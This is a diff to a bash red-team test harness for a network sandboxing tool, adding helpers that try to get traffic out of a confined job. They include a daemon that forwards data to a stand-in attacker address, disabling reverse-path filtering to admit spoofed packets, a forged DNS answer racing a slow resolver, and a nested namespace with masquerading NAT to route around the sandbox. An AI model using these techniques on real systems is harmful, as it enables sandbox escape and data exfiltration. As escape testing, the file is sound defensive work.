@@ -18,7 +18,7 @@ ROWS=$ROOT/tests/redteam/rows
 TOOL=$T/tools # the rows' tools, where every user can read them
 RESULTS=$T/results
 who=root
-declare -A CAPTURE=([a]=a0 [s]=s0 [g]=gc) TOWARD=([a]=198.18.3.1 [s]=198.18.2.1 [g]=198.18.1.2)
+declare -A CAPTURE=([a]=a0 [s]=s0 [g]=gc)
 
 # The bed of lib.sh with sinks in the place of its servers.
 redteam_bed() {
@@ -48,14 +48,6 @@ NFT
     : > "$T/sink.g"
 }
 
-# settle of lib.sh, for g too: the capture of HOST holds all that came before.
-settle() {
-    local mark
-    mark=settled-$(nonce)
-    h "$1" bash -c "printf %s $mark > /dev/udp/${TOWARD[$1]}/9" || return 1
-    eventually 5 grep -aq "$mark" "$T/$1.pcap" || die "the capture of $1 stands still"
-}
-
 # client COMMAND...: as `who`, in the scope of the form.  `sluice run` is one run a command.
 client() {
     local user=()
@@ -81,6 +73,35 @@ name_arrived() { grep -aq "^tls [0-9]* $1" "$T/sink.$sink"; }
 
 # In the client's host, but outside of the scope (a daemon of the machine; in the forward form there is no outside).
 beside() { h c "$@"; }
+
+# A daemon at PATH (@NAME: an abstract one) of the client's host, which sends to the attacker what it is told.
+engine() {
+    case $1 in /*) h c mkdir -p "$(dirname "$1")" ;; esac
+    start "$T/engine.$NAME" c "$PYTHON" "$TOOL/send.py" engine "$1" 198.18.3.66 9999
+    eventually 3 grep -q listening "$T/engine.$NAME" || die "$(cat "$T/engine.$NAME")"
+}
+# Packets with a false source are let in, as where nobody looks (rp_filter).
+strangers_pass() { h g sh -c 'for i in all default gc gs ga; do echo 0 > /proc/sys/net/ipv4/conf/$i/rp_filter; done'; }
+# stranger_answers NONCE HOW...: the job asks a slow server; a stranger answers in the resolver's name (tools/dnswire.py), before it.
+stranger_answers() {
+    client timeout 2 dig -b 198.18.1.2#5353 +tries=1 +timeout=1 @198.18.2.53 slow.test > /dev/null &
+    sleep 0.2
+    h a "$PYTHON" "$TOOL/dnswire.py" stranger "$@"
+    client curl -sk --max-time 1 --resolve slow.test:443:198.18.3.66 "https://slow.test/$1"
+    wait $!
+}
+# through_the_job COMMAND...: in a network namespace that the job makes inside its own, routes and masquerades.  Nothing of it is left.
+through_the_job() {
+    client bash -c '
+        unshare -n sleep 4 & inner=$!
+        for i in {1..40}; do [ "$(readlink /proc/$inner/ns/net)" != "$(readlink /proc/self/ns/net)" ] && break; sleep 0.05; done
+        ip link add red0 type veth peer name red1 netns $inner && ip addr add 192.0.2.1/30 dev red0 && ip link set red0 up
+        nsenter -t $inner -n sh -c "ip addr add 192.0.2.2/30 dev red1; ip link set red1 up; ip route add default via 192.0.2.1"
+        echo 1 > /proc/sys/net/ipv4/ip_forward
+        nft "add table ip red; add chain ip red post { type nat hook postrouting priority 100; }; add rule ip red post ip saddr 192.0.2.2 masquerade"
+        nsenter -t $inner -n "$@"
+        nft delete table ip red; ip link del red0; kill $inner' bash "$@"
+}
 
 # ---- rows ----
 
